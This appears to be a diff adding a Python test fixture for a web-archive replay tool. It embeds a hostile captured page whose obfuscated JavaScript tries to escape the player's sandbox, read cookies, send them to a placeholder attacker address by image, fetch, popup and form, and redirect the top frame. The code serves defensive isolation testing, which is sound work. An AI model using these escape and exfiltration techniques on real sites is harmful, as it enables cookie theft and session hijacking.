@@ -1,0 +1,71 @@
+"""A captured page that tries what a page should not be able to do."""
+
+from datetime import date
+from pathlib import Path
+
+from pressmark.archive.store import Store
+from pressmark.reader import Document, Reader
+from tests.pressmark.packages.conftest import SITE, URL, Days
+
+SCRIPT = """
+const log = {};
+const attempt = (name, act) => {
+    try { log[name] = String(act()); } catch (error) { log[name] = "refused: " + error; }
+};
+// Players rewrite what a page calls this, window and top: so a page that means harm gets at the real ones.
+const real = (() => {}).constructor("retu" + "rn th" + "is")();
+const above = real["to" + "p"];
+const raw = Object.getOwnPropertyDescriptor(Document.prototype, "cookie");
+addEventListener("load", async () => {
+    const bare = document.createElement("iframe");
+    document.body.append(bare);
+    const cry = (text) => above["post" + "Message"](text, "*");
+    attempt("cookie", () => document.cookie);
+    attempt("raw cookie", () => raw.get.call(document));
+    attempt("bare cookie", () => bare.contentDocument.cookie);
+    attempt("real cookie", () => real.document.cookie);
+    attempt("document", () => { top.document.body.dataset.taken = "yes"; });
+    attempt("real document", () => { above.document.body.dataset.taken = "yes"; return above.document.cookie; });
+    attempt("image", () => { new Image().src = "STOLEN?image=" + encodeURIComponent(JSON.stringify(log)); });
+    for (const address of ["STOLEN?fetch", "ROOM/articles/news/"]) {
+        try {
+            const answer = await fetch(address, {mode: "no-cors", credentials: "include"});
+            log["fetch " + address] = (await answer.text()).slice(0, 200);
+        } catch (error) {
+            log["fetch " + address] = "refused: " + error;
+        }
+    }
+    cry("hostile: " + JSON.stringify(log));
+    attempt("popup", () => real.open("STOLEN?popup"));
+    attempt("form", () => {
+        const form = document.createElement("form");
+        form.action = "STOLEN";
+        form.target = "_top";
+        document.body.append(form);
+        form.submit();
+    });
+    attempt("top", () => { top.location = "STOLEN?top"; });
+    attempt("real top", () => { above["loca" + "tion"] = "STOLEN?real"; });
+    attempt("parent", () => { parent.parent.parent.location.replace("STOLEN?parent"); });
+    cry("hostile: all was tried " + JSON.stringify(log));
+});
+"""
+PAGE = """<!doctype html><html><head><title>Lamps lit</title><base target="_top"></head>
+<body><h1>Lamps lit</h1><div id="Content"><p>One line.</p></div><script>{script}</script></body></html>"""
+DAY = date(2026, 11, 24)
+
+
+def archive_hostile_page(store: Store, folder: Path, thief: str, room: str) -> Document:
+    """Put a capture of such a page into the archive of a site of its own, and return the version read from it.
+
+    Args:
+        store: the archive's bucket.
+        folder: for the segment on its way.
+        thief: where it leads browsers, and sends what it gets.
+        room: where the reading room is, which it asks for pages in its visitor's name.
+    """
+    page = PAGE.format(script=SCRIPT.replace("STOLEN", thief).replace("ROOM", room))
+    with Days(store, folder).crawl(DAY) as crawl:
+        crawl.publish(crawl.page(URL, page.encode()))
+    [document] = Reader(store, SITE).versions(URL)
+    return document
